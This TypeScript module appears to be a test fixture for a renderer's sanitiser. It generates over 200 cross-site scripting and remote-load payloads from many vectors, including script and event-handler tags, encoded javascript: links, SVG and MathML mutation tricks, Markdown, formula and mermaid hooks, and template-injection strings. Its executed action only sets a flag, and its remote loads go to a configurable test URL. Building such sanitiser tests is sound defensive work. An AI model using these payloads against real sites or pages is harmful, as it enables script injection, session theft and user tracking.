/** What payloads do where they run: a global that the page shows, and a request that leaves. */
export const flag = '__ran'

interface Away {
  /** Where requests would go. */
  url: string
}

/** Vectors of markup, links, styles, formulas and names; `act` is what runs in them. */
function vectorsOf({ url }: Away): string[] {
  const act = `globalThis.${flag}=1`
  const coded = [...act].map((sign) => `&#${sign.codePointAt(0)};`).join('')
  return [
    `<script>${act}</script>`,
    `<ScRiPt>${act}</sCrIpT>`,
    `<script src="${url}/script.js"></script>`,
    `<script\n>${act}</script\n>`,
    `<<script>${act}//<</script>`,
    `<img src=x onerror="${act}">`,
    `<img src=x onerror=${coded}>`,
    `<img/src=x/onerror=${act}>`,
    `<IMG """><script>${act}</script>">`,
    `<img src="${url}/image.png">`,
    `<img srcset="${url}/set.png 2x">`,
    `<picture><source srcset="${url}/source.png"><img src=x></picture>`,
    `<svg onload="${act}">`,
    `<svg><script>${act}</script></svg>`,
    `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
    `<svg><a xlink:href="javascript:${act}"><text>x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg onload=${act}>#x"></svg>`,
    `<svg><foreignObject><iframe src="javascript:${act}"></iframe></foreignObject></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;">`,
    `<math><maction actiontype="statusline#" xlink:href="javascript:${act}">x</maction></math>`,
    `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
    `<template><script>${act}</script></template>`,
    `<iframe srcdoc="<script>parent.${flag}=1</script>"></iframe>`,
    `<iframe src="javascript:parent.${flag}=1"></iframe>`,
    `<iframe src="${url}/frame"></iframe>`,
    `<object data="javascript:${act}"></object>`,
    `<object data="${url}/object"></object>`,
    `<embed src="${url}/embed">`,
    `<video src=x onerror="${act}"></video>`,
    `<video poster="${url}/poster.png"></video>`,
    `<audio src="${url}/sound" autoplay onloadstart="${act}"></audio>`,
    `<details open ontoggle="${act}">x</details>`,
    `<input autofocus onfocus="${act}">`,
    `<select autofocus onfocus=${act}>`,
    `<body onload="${act}">`,
    `<marquee onstart="${act}">x</marquee>`,
    `<div style="background:url(${url}/background)">x</div>`,
    `<style>@import url(${url}/style.css); * { background: url(${url}/all) }</style>`,
    `<link rel="stylesheet" href="${url}/sheet.css">`,
    `<link rel="prefetch" href="${url}/prefetch">`,
    `<link rel="dns-prefetch" href="//away.example">`,
    `<meta http-equiv="refresh" content="0;url=${url}/refresh">`,
    `<base href="${url}/">`,
    `<form action="${url}/form"><button>x</button></form>`,
    `<a href="javascript:${act}">x</a>`,
    `<a href="jav&#x09;ascript:${act}">x</a>`,
    `<a href=" &#14; javascript:${act}">x</a>`,
    `[x](javascript:${act})`,
    `[x](JaVaScRiPt:${act})`,
    `[x](javascript&colon;${act})`,
    `[x](java%0ascript:${act})`,
    `[x](data:text/html,<script>${act}</script>)`,
    `[x](vbscript:${act})`,
    `[x]( javascript:${act} "title")`,
    `[x](<javascript:${act}>)`,
    `![x](${url}/markdown.png)`,
    `![x](x"onerror="${act})`,
    `![x](javascript:${act})`,
    `[x][r]\n\n[r]: javascript:${act}`,
    `![x][i]\n\n[i]: ${url}/reference.png`,
    `<javascript:${act}>`,
    `<x onclick=${act} onmouseover=${act}>x</x>`,
    `$\\href{javascript:${act}}{x}$`,
    `$\\includegraphics{${url}/formula.png}$`,
    `$\\htmlData{x="onload=${act}"}{x}$`,
    `\`\`\`mermaid\ngraph TD; A[<img src=x onerror=${act}>]; click A "javascript:${act}"\n\`\`\``,
    `\`\`\`html\n<script>${act}</script>\n\`\`\``,
    `\u001b]8;;javascript:${act}\u0007x\u001b]8;;\u0007`,
    `\u202e<img src=x onerror=${act}>`,
    `"><img src=x onerror=${act}>`,
    `' onmouseover='${act}`,
    `{{constructor.constructor('${act}')()}}`,
    `\${${act}}`,
  ]
}

const wrappers: ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `> ${vector.replaceAll('\n', '\n> ')}`,
  (vector) => `# ${vector.replaceAll('\n', ' ')}`,
  (vector) => `- *${vector.replaceAll('\n', '\n  ')}*`,
]

/** At least 200 payloads. */
export const payloadsOf = (away: Away): string[] =>
  wrappers.flatMap((wrap) => vectorsOf(away).map((vector) => wrap(vector)))

/** Those that the name of a file can hold. */
export const nameablePayloads = (away: Away): string[] =>
  vectorsOf(away).filter((vector) => /^[^/\\\p{Cc}]{1,200}$/u.test(vector))
